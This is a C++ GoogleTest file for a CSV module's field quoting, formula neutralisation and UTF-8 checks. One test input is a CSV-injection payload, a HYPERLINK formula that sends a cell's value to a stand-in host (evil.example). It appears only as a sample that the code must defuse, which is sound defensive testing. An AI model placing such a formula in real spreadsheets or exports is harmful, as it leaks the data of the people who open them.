// The CSV pieces shared by the importers and the export (ops/csv.hpp): the
// UTF-8 check of a record, and output cells that a spreadsheet shows as
// text, never runs as a formula.
#include "ops/csv.hpp"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace fk::ops {
namespace {

TEST(CsvField, QuotesOnlyWhatNeedsIt) {
  EXPECT_EQ(CsvField("张三"), "张三");
  EXPECT_EQ(CsvField("420102001001001"), "420102001001001");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(CsvField(""), "");
}

// CSV injection: a cell that starts with = + - @, a tab or a carriage
// return is a formula to Excel and LibreOffice; prefixed with a single
// quote it is shown as the text it is.
TEST(CsvField, NeutralisesFormulas) {
  EXPECT_EQ(CsvField("=1+2"), "\"'=1+2\"");
  EXPECT_EQ(CsvField("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\"");
  EXPECT_EQ(CsvField("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
  EXPECT_EQ(CsvField("+86 138"), "\"'+86 138\"");
  EXPECT_EQ(CsvField("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(CsvField("\t=1+2"), "\"'\t=1+2\"");
  EXPECT_EQ(CsvField("\r=1+2"), "\"'\r=1+2\"");
  // Only the first character counts.
  EXPECT_EQ(CsvField("1+2=3"), "1+2=3");
  EXPECT_EQ(CsvField("a@b"), "a@b");
}

TEST(CsvField, ANeutralisedCellReadsBackAsOneField) {
  const std::string text = CsvField("=HYPERLINK(\"x\",\"y\"),@SUM(1)") + ",next\n";
  CsvReader reader(text);
  std::vector<std::string> fields;
  int64_t line = 0;
  auto more = reader.Next(fields, line);
  ASSERT_TRUE(more.ok() && *more);
  ASSERT_EQ(fields.size(), 2u);
  EXPECT_EQ(fields[0], "'=HYPERLINK(\"x\",\"y\"),@SUM(1)");
  EXPECT_EQ(fields[1], "next");
}

TEST(AllValidUtf8, LooksAtEveryField) {
  EXPECT_TRUE(AllValidUtf8({}));
  EXPECT_TRUE(AllValidUtf8({"网格", "", "ascii"}));
  EXPECT_FALSE(AllValidUtf8({"网格", "\xE7\x94", "ascii"}));
  EXPECT_FALSE(AllValidUtf8({"ok", "\xFF"}));
  EXPECT_EQ(kNotUtf8, "not valid UTF-8");
}

}  // namespace
}  // namespace fk::ops
